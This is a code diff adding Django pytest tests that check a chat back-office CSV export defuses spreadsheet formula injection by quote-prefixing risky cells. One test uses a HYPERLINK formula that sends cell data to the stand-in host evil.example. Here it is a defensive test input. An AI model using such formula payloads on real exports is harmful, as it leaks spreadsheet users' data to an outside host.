@@ -11,8 +11,10 @@ from django.http import StreamingHttpResponse
 from django.test import Client
 from django.urls import reverse
 
+from chat.staff.export import csv_cell
 from orders.models import Customer
-from tests.chat.backoffice_data import DataSet, build
+from tests.chat.backoffice_data import Builder, DataSet, build
+from tests.chat.factories import make_conversation
 
 pytestmark = pytest.mark.django_db
 
@@ -114,3 +116,35 @@ def test_a_large_selection_streams_conversation_by_conversation(
     assert len(chunks) == 1 + 4 + 4 + 4
     rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
     assert len(rows) == 12
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_export_neutralizes_customer_text_that_a_spreadsheet_would_run(
+    lead_client: Client, alice: Customer, start: str
+) -> None:
+    # OWASP's CSV injection advice: a leading ' makes the cell text.
+    conversation = make_conversation(alice)
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Builder(conversation).customer(formula)
+
+    _, body = export(lead_client, "export_csv", conversation)
+
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["visible_text"] == "'" + formula
+    assert row["seq"] == "1"  # numbers and ordinary text are left alone
+    assert row["role"] == "user"
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-5", "'-5"),
+        ("a=b", "a=b"),
+        (-5, -5),
+        ("", ""),
+    ],
+)
+def test_every_text_cell_that_starts_a_formula_is_prefixed(value: object, exported: object) -> None:
+    assert csv_cell(value) == exported
